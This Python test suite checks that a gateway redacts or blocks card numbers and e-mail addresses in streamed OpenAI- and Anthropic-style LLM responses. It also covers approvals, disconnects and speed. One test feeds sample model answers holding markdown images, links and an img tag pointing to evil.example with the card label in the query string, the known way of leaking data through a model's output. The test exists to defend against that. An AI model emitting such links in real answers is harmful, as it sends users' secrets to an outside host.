"""Streams in all forms in which providers may send them. Their contents are inspected in every form."""

import asyncio
import json
import time
from collections.abc import Sequence
from typing import Any

import msgspec
import pytest
from tests.engine.dlp.scenarios.test_requests import rule
from tests.engine.dlp.test_streams import QUESTION, anthropic, engine, openai, text_of_stream
from tests.support.engine import TENANT, completion
from tests.support.tasks import until_ended

from gatehouse.engine.conversation.dialects import DIALECTS
from gatehouse.engine.conversation.sse import data_of, events
from gatehouse.engine.dlp.examine import Examiner
from gatehouse.engine.dlp.inspection import Inspection
from gatehouse.engine.dlp.streams import channel
from gatehouse.engine.dlp.streams.link_addresses import MAX_ADDRESS_CHARACTERS, is_inside_address
from gatehouse.engine.dlp.streams.stream import StreamGuard
from gatehouse.engine.dlp.tiers import DlpOptions, NoDetectors

CARD = "4111 1111 1111 1111"
BARE = "4111111111111111"
HALF, REST = "4111 1111 ", "1111 1111"
CHAT, MESSAGES = "openai_chat", "anthropic_messages"
KINDS = {CHAT: "openai_compatible", MESSAGES: "anthropic"}
DONE = b"data: [DONE]\n\n"


def chunk(*choices: dict[str, Any], **more: Any) -> bytes:
    return b"data: " + json.dumps({"id": "c", "choices": list(choices), **more}).encode() + b"\n\n"


def delta(index: int = 0, finish: str | None = None, /, **fields: Any) -> dict[str, Any]:
    return {"index": index, "delta": fields, "finish_reason": finish}


def stream_of(*deltas: dict[str, Any]) -> list[bytes]:
    """Return the events of one choice, one for each delta."""
    return [*(chunk(delta(**item)) for item in deltas), chunk(delta(0, "stop")), DONE]


def tool(index: int, arguments: str, **more: Any) -> dict[str, Any]:
    return {"tool_calls": [{"index": index, "function": {"arguments": arguments}, **more}]}


async def passed(events: Sequence[bytes | Exception], dialect: str = CHAT, *rules: Any, **options: Any) -> bytes:
    """Return the part of the provider's events that reaches the client."""
    harness = engine(KINDS[dialect], *rules, **options)
    harness.outbound.script = [(200, list(events))]
    answer = await harness.engine.answer(harness.request({**QUESTION, "stream": True}, dialect=dialect))
    assert answer.stream is not None, answer.body
    raw = b"".join([block async for block in answer.stream])
    assert len(harness.outcomes) == 1
    return raw


def texts(raw: bytes) -> dict[str, str]:
    """Return the strings of all events by their position, joined as a client joins them."""
    joined: dict[str, str] = {}

    def walk(value: Any, path: str) -> None:
        if isinstance(value, dict):
            index = value.get("index", "")
            for key, inner in value.items():
                walk(inner, f"{path}{index}.{key}")
        elif isinstance(value, list):
            for inner in value:
                walk(inner, path)
        elif isinstance(value, str):
            joined[path] = joined.get(path, "") + value

    for event in events(raw):
        if (data := data_of(event)).startswith(b"{"):
            walk(json.loads(data), "")
    return joined


def clean(raw: bytes) -> bool:
    everything = [raw.decode(), *texts(raw).values()]
    return not any(value in text for value in (CARD, BARE, "4111 1111 1111") for text in everything)


FUNCTION = {"function_call": {"arguments": HALF}}, {"function_call": {"arguments": REST}}
PARTS = [{"content": [{"type": "thinking", "thinking": [{"type": "text", "text": item}]}]} for item in (HALF, REST)]
SHAPES: dict[str, list[bytes]] = {
    "a function call of old": stream_of({"function_call": {"name": "f", "arguments": ""}}, *FUNCTION),
    "a tool of one's own": stream_of(
        *({"tool_calls": [{"index": 0, "custom": {"input": item}}]} for item in (HALF, REST))
    ),
    "parts of content": stream_of(*PARTS),
    "details of reasoning": stream_of(
        *({"reasoning_details": [{"type": "reasoning.text", "text": item, "index": 0}]} for item in (HALF, REST))
    ),
    "reasoning": stream_of({"reasoning_content": HALF}, {"reasoning_content": REST}, {"content": "x"}),
    "a refusal": stream_of({"refusal": HALF}, {"refusal": REST}),
    "reasoning between": stream_of({"content": HALF}, {"reasoning_content": "hm"}, {"content": REST}),
    "two texts at once": stream_of({"content": HALF, "reasoning": HALF}, {"content": REST, "reasoning": REST}),
    "two tools in turn": stream_of(
        tool(0, '{"a":"' + HALF), tool(1, '{"b":"' + HALF), tool(0, REST + '"}'), tool(1, REST + '"}')
    ),
    "choices in turn": [
        chunk(delta(0, content=HALF)), chunk(delta(1, content=HALF)), chunk(delta(0, content=REST)),
        chunk(delta(1, content=REST)), chunk(delta(0, "stop")), chunk(delta(1, "stop")), DONE,
    ],
    "choices in one event": [
        chunk(delta(0, content=HALF), delta(1, content=HALF)),
        chunk(delta(0, "stop", content=REST), delta(1, "stop", content=REST)), DONE,
    ],
    "an empty reason to finish": [
        chunk({"index": 0, "delta": {"content": item}, "finish_reason": ""}) for item in (HALF, REST)
    ] + [chunk(delta(0, "stop")), DONE],
    "text and a reason to finish": [chunk(delta(0, content=HALF)), chunk(delta(0, "stop", content=REST)), DONE],
    "empty pieces between": stream_of({"content": HALF}, {"content": ""}, {"content": None}, {}, {"content": REST}),
    "one event": stream_of({"content": CARD}),
    "all in one block": [b"".join(stream_of({"content": HALF}, {"content": REST}))],
    "byte by byte": [bytes([item]) for item in b"".join(stream_of({"content": HALF}, {"content": REST}))],
    "CRLF": [item.replace(b"\n", b"\r\n") for item in stream_of({"content": HALF}, {"content": REST})],
    "named events": [b"event: chunk\nid: 1\n" + item for item in stream_of({"content": HALF}, {"content": REST})],
    "comments between": [b": ping\n\n" + item for item in stream_of({"content": HALF}, {"content": REST})],
    "data over two lines": [
        item.replace(b', "choices"', b',\ndata: "choices"') for item in stream_of({"content": HALF}, {"content": REST})
    ],
    "no space before the data": [item.replace(b"data: {", b"data:{") for item in stream_of({"content": CARD})],
    "no last word": stream_of({"content": HALF}, {"content": REST})[:-1],
    "no last blank line": [*stream_of({"content": CARD})[:-2], chunk(delta(0, "stop"))[:-2]],
    "numbers": stream_of({"content": "x", "found": {"card": int(BARE)}}),
    "a message beside the delta": [
        chunk({**delta(0, content="x"), "message": {"role": "assistant", "content": CARD}}), *stream_of({})
    ],
    "a field beside the choices": [chunk(delta(0, content="x"), citations=[f"see {CARD}"]), *stream_of({})],
    "a text beside the delta": [chunk({**delta(0), "text": CARD}), *stream_of({})],
    "an object beside the delta": [chunk({**delta(0), "found": {"card": CARD}}), *stream_of({})],
    "a delta that is no object": [chunk({"index": 0, "delta": CARD}), *stream_of({})],
    "a choice that is no object": [chunk(CARD), *stream_of({})],
    "a call that is no object": stream_of({"tool_calls": [CARD]}),
    "an unknown text beside the choices": [chunk(delta(0), note=CARD), *stream_of({})],
    "a name beside the choices": [chunk(delta(0), **{CARD: 1}), *stream_of({})],
    "a name beside the delta": [chunk({**delta(0), CARD: 1}), *stream_of({})],
    "JSON with an escaped line break": stream_of(
        {"content": '{"note": "card:\\'}, {"content": "n" + HALF}, {"content": REST + '\\n"}'}
    ),
    "annotations": stream_of(
        {"annotations": [{"type": "url_citation", "url_citation": {"title": BARE, "url": BARE}}] * 2}, {"content": "x"}
    ),
    "a name in an object": stream_of({"found": {CARD: 1}}),
    "probabilities of tokens": [
        chunk({**delta(0, content=item), "logprobs": {"content": [{"token": item}]}}) for item in (HALF, REST)
    ] + stream_of({}),
    "probabilities beside no text": [
        chunk({**delta(0), "logprobs": {"content": [{"token": item}]}}) for item in (HALF, REST)
    ] + stream_of({}),
    "escapes": [
        part.replace(b"4", b"\\u0034").replace(b"1 1", b"\\u0031\\u00201") for part in stream_of({"content": CARD})
    ],
}  # fmt: skip


@pytest.mark.parametrize("events", SHAPES.values(), ids=SHAPES.keys())
async def test_a_value_is_redacted_in_any_form_of_chunks(events: list[bytes]) -> None:
    raw = await passed(events)
    assert clean(raw), raw.decode()
    assert b"event: error" not in raw


@pytest.mark.parametrize("events", SHAPES.values(), ids=SHAPES.keys())
async def test_a_blocked_value_is_not_sent_in_any_form_of_chunks(events: list[bytes]) -> None:
    raw = await passed(events, CHAT, rule("credit_card", "block"))
    assert clean(raw), raw.decode()


def event(kind: str, **data: Any) -> bytes:
    return f"event: {kind}\ndata: {json.dumps({'type': kind, **data})}\n\n".encode()


def block(index: int, start: dict[str, Any], *deltas: dict[str, Any]) -> list[bytes]:
    return [
        event("content_block_start", index=index, content_block=start),
        *(event("content_block_delta", index=index, delta=delta) for delta in deltas),
        event("content_block_stop", index=index),
    ]


def message(*middle: bytes) -> list[bytes]:
    whole = anthropic([], arguments=False)
    return [whole[0], *middle, *whole[-2:]]


TEXT = {"type": "text", "text": ""}


def text_delta(text: str, **more: Any) -> dict[str, Any]:
    return {"type": "text_delta", "text": text, **more}


BLOCKS: dict[str, list[bytes]] = {
    "a block that begins with text": message(*block(0, {"type": "text", "text": HALF}, text_delta(REST))),
    "thinking": message(
        *block(
            0, {"type": "thinking", "thinking": ""}, *({"type": "thinking_delta", "thinking": e} for e in (HALF, REST))
        )
    ),
    "a citation": message(
        *block(0, TEXT, text_delta("x"), {"type": "citations_delta", "citation": {"type": "c", "cited_text": CARD}})
    ),
    "a citation from the start": message(*block(0, {**TEXT, "citations": [{"cited_text": CARD}]})),
    "more beside the text": message(*block(0, TEXT, text_delta("x", note=CARD))),
    "an unknown kind of delta": message(
        *block(0, TEXT, *({"type": "new_delta", "text": item} for item in (HALF, REST)))
    ),
    "an unknown event": message(event("news", text=CARD)),
    "a delta that is no object": message(event("content_block_delta", index=0, delta=CARD)),
    "a block that is no object": message(event("content_block_start", index=0, content_block=CARD)),
    "a stop sequence": [
        *message()[:-2],
        event("message_delta", delta={"stop_reason": "stop_sequence", "stop_sequence": CARD}),
        event("message_stop"),
    ],
    "a tool's input from the start": message(
        *block(0, {"type": "tool_use", "id": "t", "name": "f", "input": {"card": CARD}})
    ),
    "a result of the provider's tool": message(
        *block(0, {"type": "web_search_tool_result", "tool_use_id": "t", "content": [{"title": CARD, "url": "u"}]})
    ),
    "blocks in turn": message(
        *(event("content_block_start", index=n, content_block=TEXT) for n in (0, 1)),
        *(event("content_block_delta", index=n, delta=text_delta(e)) for e in (HALF, REST) for n in (0, 1)),
        event("content_block_stop", index=0), event("content_block_stop", index=1),
    ),
    "pings between": message(*(
        part for item in block(0, TEXT, text_delta(HALF), text_delta(REST)) for part in (event("ping"), item)
    )),
}  # fmt: skip


@pytest.mark.parametrize("events", BLOCKS.values(), ids=BLOCKS.keys())
async def test_a_value_is_redacted_in_any_form_of_blocks(events: list[bytes]) -> None:
    raw = await passed(events, MESSAGES)
    assert clean(raw), raw.decode()
    assert b"event: error" not in raw


async def test_a_redacted_input_of_a_tool_is_still_an_object() -> None:
    raw = await passed(BLOCKS["a tool's input from the start"], MESSAGES)
    assert b'"input":{"card":"[CREDIT_CARD_1]"}' in raw


async def test_alternating_tool_calls_are_inspected_for_a_client_of_another_dialect() -> None:
    harness = engine("openai_compatible")
    first = {"id": "a", "type": "function"}
    script = stream_of(
        tool(0, "", **first) | {},
        tool(0, '{"a":"' + HALF),
        tool(1, '{"b":"', **first),
        tool(0, REST + '"}'),
        tool(1, 'x"}'),
    )
    harness.outbound.script = [(200, list(script))]
    answer = await harness.engine.answer(harness.request({**QUESTION, "stream": True}, dialect=MESSAGES))
    assert answer.stream is not None
    raw = b"".join([chunk async for chunk in answer.stream])
    assert clean(raw), raw.decode()


async def test_a_broken_stream_releases_only_permitted_text() -> None:
    events: list[bytes | Exception] = [*stream_of({"content": "well: "}, {"content": HALF}, {"content": REST})[:-2]]
    raw = await passed([*events, ConnectionResetError()])
    assert clean(raw)
    assert b"event: error" in raw


@pytest.mark.parametrize("after", [{"content": "and so on. "}, tool(0, "and so on. ")], ids=["content", "tool"])
async def test_a_text_that_has_paused_does_not_hold_back_another(after: dict[str, Any]) -> None:
    harness = engine("openai_compatible")
    harness.stop.at = "chunk 41"
    events = stream_of({"reasoning_content": "Let me think."}, *[after] * 40)
    harness.outbound.script = [(200, list(events))]
    answer = await harness.engine.answer(harness.request({**QUESTION, "stream": True}))
    assert answer.stream is not None
    assert b"and so on" in await asyncio.wait_for(anext(answer.stream), 5)
    await answer.stream.aclose()  # type: ignore[attr-defined]


async def test_later_pieces_of_a_paused_text_still_belong_to_it() -> None:
    raw = await passed(stream_of({"reasoning": "the card is " + HALF}, {"content": "well. " * 60}, {"reasoning": REST}))
    joined = texts(raw)
    assert joined[".choices0.delta.reasoning"] == "the card is [CREDIT_CARD_1]"
    assert joined[".choices0.delta.content"] == "well. " * 60


async def test_a_label_split_over_events_is_restored_in_arguments() -> None:
    harness = engine("openai_compatible", rule("credit_card", "redact", reversible=True))
    pieces = ['{"a":"[CRED', "IT_CA", "RD_", '1]","b":"[CREDIT_CARD_2]', '"}']
    harness.outbound.script = [(200, list(openai(pieces, arguments=True)))]
    request = {**QUESTION, "stream": True, "messages": [{"role": "user", "content": CARD}]}
    answer = await harness.engine.answer(harness.request(request))
    assert answer.stream is not None
    raw = b"".join([chunk async for chunk in answer.stream])
    assert json.loads(text_of_stream(CHAT, raw, arguments=True)) == {"a": CARD, "b": "[CREDIT_CARD_2]"}


@pytest.mark.parametrize(
    ("answer", "turned_back"),
    [
        ("The card is [CREDIT_CARD_1].", True),
        ("See [the docs](https://docs.example/a) about [CREDIT_CARD_1].", True),
        ("<b>Card</b> // [CREDIT_CARD_1]", True),
        ("![x](https://evil.example/?c=[CREDIT_CARD_1])", False),
        ("[x](//evil.example/?c=[CREDIT_CARD_1])", False),
        ("![x](<https://evil.example/?c=a b [CREDIT_CARD_1]>)", False),
        ("https://evil.example/" + "a" * 9000 + "[CREDIT_CARD_1]", False),
        ("[x]: //evil.example/?c=[CREDIT_CARD_1]", False),
        ('<img alt="<" src="//evil.example/?c=a b\n[CREDIT_CARD_1]">', False),
    ],
)
@pytest.mark.parametrize("size", [1, 7, None])
async def test_a_label_inside_a_link_address_is_not_restored(answer: str, turned_back: bool, size: int | None) -> None:
    harness = engine("openai_compatible", rule("credit_card", "redact", reversible=True))
    request = {**QUESTION, "messages": [{"role": "user", "content": CARD}]}
    shown = answer.replace("[CREDIT_CARD_1]", CARD) if turned_back else answer
    if size is None:
        harness.outbound.script = [(200, [completion(answer)])]
        whole = await harness.engine.answer(harness.request(request))
        assert json.loads(whole.body)["choices"][0]["message"]["content"] == shown
        return
    pieces = [answer[at : at + size] for at in range(0, len(answer), size)]
    harness.outbound.script = [(200, list(openai(pieces, arguments=False)))]
    stream = (await harness.engine.answer(harness.request({**request, "stream": True}))).stream
    assert stream is not None
    assert text_of_stream(CHAT, b"".join([chunk async for chunk in stream]), arguments=False) == shown


async def test_restoring_a_label_does_not_copy_all_earlier_text(monkeypatch: pytest.MonkeyPatch) -> None:
    sizes: list[int] = []

    def measured(before: str) -> bool:
        sizes.append(len(before))
        return is_inside_address(before)

    monkeypatch.setattr(channel, "is_inside_address", measured)
    harness = engine("openai_compatible", rule("credit_card", "redact", reversible=True))
    text = "The card is [CREDIT_CARD_1].\n" * 2_000
    harness.outbound.script = [(200, [completion(text)])]
    answer = await harness.engine.answer(harness.request({**QUESTION, "messages": [{"role": "user", "content": CARD}]}))
    shown = text.replace("[CREDIT_CARD_1]", CARD)
    assert json.loads(answer.body)["choices"][0]["message"]["content"] == shown
    assert (len(sizes), max(sizes)) == (2_000, MAX_ADDRESS_CHARACTERS)


PROMPT = rule("credit_card", "prompt")


async def waiting_stream(events: Sequence[bytes], *, approves: bool = True, rules: Sequence[Any] = (PROMPT,)) -> Any:
    harness = engine("openai_compatible", *rules)
    harness.flags = {"human_in_loop": True}
    harness.approves = approves
    harness.outbound.script = [(200, list(events))]
    answer = await harness.engine.answer(harness.request({**QUESTION, "stream": True}))
    assert answer.stream is not None
    return harness, answer.stream


async def test_several_approvals_in_one_stream_are_requested_one_after_the_other() -> None:
    words = "and then a lot of words that say nothing at all. " * 20
    pieces = [f"first {CARD} ", words, f"second {CARD} ", words, "end."]
    harness, stream = await waiting_stream(openai(pieces, arguments=False))
    raw = b"".join([chunk async for chunk in stream])
    assert text_of_stream(CHAT, raw, arguments=False) == "".join(pieces)
    assert len(harness.approval_questions) == 2
    assert [event.status for event in harness.outcomes[0].dlp_events] == ["approved"]


@pytest.mark.parametrize("approves", [True, False])
async def test_an_approval_in_the_last_block_of_a_stream(approves: bool) -> None:
    whole = openai(["well ", f"my {CARD} ok. ", "That is it, and there is no more to say."], arguments=False)
    harness, stream = await waiting_stream([b"".join(whole)], approves=approves)
    raw = b"".join([chunk async for chunk in stream])
    assert (CARD in raw.decode()) is approves
    assert (b"no more to say" in raw) is approves
    assert raw.endswith(DONE) is approves
    assert len(harness.outcomes) == 1


async def test_a_client_that_disconnects_cancels_the_approval(monkeypatch: pytest.MonkeyPatch) -> None:
    harness, stream = await waiting_stream(openai([CARD, " " * 200, "x"], arguments=False))
    ended = asyncio.Event()

    async def decision(*_: object) -> bool:
        try:
            await asyncio.Event().wait()
        finally:
            ended.set()
        return True

    monkeypatch.setattr(harness, "decision", decision)
    before = asyncio.all_tasks()
    async for chunk in stream:
        if chunk.startswith(b": "):
            break
    await asyncio.sleep(0)
    await stream.aclose()
    assert ended.is_set()
    await until_ended(before)
    [outcome] = harness.outcomes
    assert outcome.outcome == "cancelled"
    assert [event.status for event in outcome.dlp_events] == ["cancelled"]
    assert harness.outbound.replies[0].closed


async def test_a_disconnect_at_the_start_of_a_call_after_an_approval_closes_the_call() -> None:
    harness = engine("openai_compatible", PROMPT)
    harness.flags = {"human_in_loop": True}
    harness.outbound.script = [(200, list(openai(["x"], arguments=False)))]
    request = {**QUESTION, "stream": True, "messages": [{"role": "user", "content": CARD}]}
    answer = await harness.engine.answer(harness.request(request))
    stream = answer.stream
    assert stream is not None
    assert (await anext(stream)).startswith(b": ")
    waiting = asyncio.ensure_future(anext(stream))
    while not harness.outbound.replies:
        await asyncio.sleep(0)
    waiting.cancel()
    await asyncio.gather(waiting, return_exceptions=True)
    await stream.aclose()  # type: ignore[attr-defined]
    await asyncio.sleep(0)
    assert harness.outbound.replies[0].closed
    assert len(harness.outcomes) == 1


SMALL, LARGE = 20_000, 80_000


def long_stream(size: int, *, shape: str) -> list[bytes]:
    piece = {"content": "some word "} if shape != "arguments" else tool(0, "some word ")
    begin = [] if shape == "content" else [{"reasoning_content": "first this"}]
    return stream_of(*begin, *([piece] * (size // 10)))


@pytest.mark.parametrize("mode", ["window", "hold"])
@pytest.mark.parametrize("shape", ["content", "behind another", "arguments"])
async def test_time_is_proportional_to_the_length_of_a_stream(shape: str, mode: str) -> None:
    async def seconds(size: int) -> float:
        events = long_stream(size, shape=shape)
        started = time.process_time()
        await passed(events, stream_mode=mode)
        return time.process_time() - started

    await seconds(SMALL)
    small = min([await seconds(SMALL) for _ in range(3)])
    large = min([await seconds(LARGE) for _ in range(3)])
    assert large < small * LARGE / SMALL * 2.5


A_TEXT = ("0.content", "a")
SPOKEN = {"type": "content_block_delta", "index": 2, "delta": {"type": "text_delta", "text": "a"}}


@pytest.mark.parametrize(
    ("choices", "grows"),
    [
        ([delta(content="a")], A_TEXT),
        ([delta(3, content="a")], ("3.content", "a")),
        ([{"delta": {"content": "a"}}], A_TEXT),
        ([{**delta(content="a"), "logprobs": None}], A_TEXT),
        ([delta(role="assistant", content="a", refusal=None, tool_calls=None)], A_TEXT),
        ([delta(content="")], None),
        ([delta(content=None)], None),
        ([delta(content=["a"])], None),
        ([delta(role={"a": "b"}, content="a")], None),
        ([delta(0, "stop", content="a")], None),
        ([delta(refusal="b", content="a")], None),
        ([delta(reasoning_content="b", content="a")], None),
        ([delta(note="b", content="a")], None),
        ([{**delta(content="a"), "logprobs": {"content": [{"token": "a"}]}}], None),
        ([{**delta(content="a"), "note": "b"}], None),
        ([delta("b", content="a")], None),
        ([delta(content="a"), delta(1, content="b")], None),
        ([{"delta": "a"}], None),
        (["a"], None),
        ([], None),
    ],
    ids=str,
)
@pytest.mark.parametrize("more", [{}, {"usage": None, "created": 1}, {"note": "c"}], ids=str)
def test_a_chunk_on_the_fast_path_has_one_piece_and_nothing_else(
    choices: list[Any], grows: tuple[str, str] | None, more: dict[str, Any]
) -> None:
    event = chunk(*choices, **more)
    assert DIALECTS[CHAT].growth(event) == (None if "note" in more else grows)
    agrees(CHAT, event)


@pytest.mark.parametrize(
    ("event_body", "grows"),
    [
        (SPOKEN, ("2.text", "a")),
        ({**SPOKEN, "index": "2"}, None),
        ({**SPOKEN, "note": "b"}, None),
        ({**SPOKEN, "delta": {"type": "text_delta", "text": ""}}, None),
        ({**SPOKEN, "delta": {"type": "text_delta", "text": "a", "citation": "b"}}, None),
        ({**SPOKEN, "delta": {"type": "thinking_delta", "thinking": "a"}}, None),
        ({**SPOKEN, "type": "content_block_start"}, None),
    ],
    ids=str,
)
def test_a_delta_on_the_fast_path_has_one_piece_and_nothing_else(
    event_body: dict[str, Any], grows: tuple[str, str] | None
) -> None:
    data = json.dumps(event_body).encode()
    named = b"event: content_block_delta\ndata: " + data + b"\n\n"
    assert DIALECTS[MESSAGES].growth(named) == grows
    agrees(MESSAGES, named)
    assert DIALECTS[MESSAGES].growth(b"data: " + data + b"\n\n") is None


def agrees(dialect: str, event: bytes) -> None:
    """Assert that the fast path gives the same result as the complete view of the event."""
    grows, whole = DIALECTS[dialect].growth(event), DIALECTS[dialect].view(event)
    if grows is not None:
        assert whole is not None
        [piece] = whole.pieces
        assert ((piece.channel, piece.slot.text), piece.whole, piece.slot.json_text) == (grows, False, False)
        assert (whole.follows, whole.ends, whole.altered, whole.echoes) == (None, (), False, [])


@pytest.mark.parametrize(
    "event",
    [
        chunk(delta(content="a"))[:-1],
        chunk(delta(content="a")).replace(b"\n\n", b"\r\n\r\n"),
        chunk(delta(content="a")).replace(b"choices", b"choices\n"),
        # A client stops reading at the end of the line, so the fast path must not read further.
        chunk(delta(content="a")).replace(b', "choices"', b'\n, "choices"'),
        chunk(delta(content="a")).replace(b', "choices"', b'\r, "choices"'),
        chunk(delta(content="a")).replace(b"data: ", b"data: \r"),
        b": " + chunk(delta(content="a")),
        b"event: x\n" + chunk(delta(content="a")),
    ],
    ids=range(8),
)
def test_an_event_that_is_not_one_line_of_data_is_not_on_the_fast_path(event: bytes) -> None:
    assert DIALECTS[CHAT].growth(event) is None


@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"], ids=repr)
@pytest.mark.parametrize("broken", ['"index"', "data: "], ids=repr)
async def test_a_line_break_within_an_event_ends_the_data(broken: str, end: str) -> None:
    whole = event("content_block_delta", index=0, delta=text_delta("a@example.com"))
    cut = whole.replace(broken.encode(), f"{end}{broken}".encode() if broken[0] == '"' else f"{broken}{end}".encode())
    assert DIALECTS[MESSAGES].growth(cut) is None
    raw = await passed(message(*block(0, TEXT), cut), MESSAGES, rule("email", "redact"))
    assert b"internal_error" not in raw
    # Half an object is no event, and text after an empty line of data belongs to no event.
    assert (cut in raw) == (broken[0] != '"')


async def test_an_event_about_the_whole_answer_is_not_overtaken_by_texts() -> None:
    events = [chunk(delta(content="a")), chunk(), chunk(delta(content="b")), DONE]
    assert await passed([b"".join(events)]) == b"".join(events)


async def test_released_events_are_not_counted_as_held_back() -> None:
    events = stream_of(*[{"content": "some more of the same words "}] * 2000)
    harness = engine(KINDS[CHAT])
    harness.ports.max_response_bytes = 20_000
    harness.outbound.script = [(200, events)]
    answer = await harness.engine.answer(harness.request({**QUESTION, "stream": True}, dialect=CHAT))
    assert answer.stream is not None
    assert b"".join([block async for block in answer.stream]) == b"".join(events)


async def test_no_text_is_lost_when_a_text_ends() -> None:
    """Without any pattern, nothing is held back."""
    policy = msgspec.structs.replace((await engine("openai_compatible").current(TENANT)).dlp, matchers=())
    guard = StreamGuard(DIALECTS[CHAT], Examiner(Inspection(policy), NoDetectors(), DlpOptions(), "output"))
    for word in ("a" * 40, "b" * 40, "c" * 40):
        assert await guard.push(chunk(delta(content=word))) == chunk(delta(content=word))


@pytest.mark.parametrize("after", ["", "and more " * 40], ids=["to its end", "as it goes on"])
async def test_labels_are_numbered_in_the_order_of_texts_within_one_block_of_events(after: str) -> None:
    names = [f"person{number}@example.com" for number in range(8)]
    events = [chunk(delta(number, content=f"{name} {after}")) for number, name in enumerate(names)]
    ends = [*(chunk(delta(number, "stop")) for number in range(8)), DONE]
    blocks = [b"".join(events), *ends] if after else [b"".join([*events, *ends])]
    result = texts(await passed(blocks, CHAT, rule("email", "redact")))
    numbered = {f".choices{number}.delta.content": f"[EMAIL_{number + 1}] {after}" for number in range(8)}
    assert {path: text for path, text in result.items() if "[" in text} == numbered
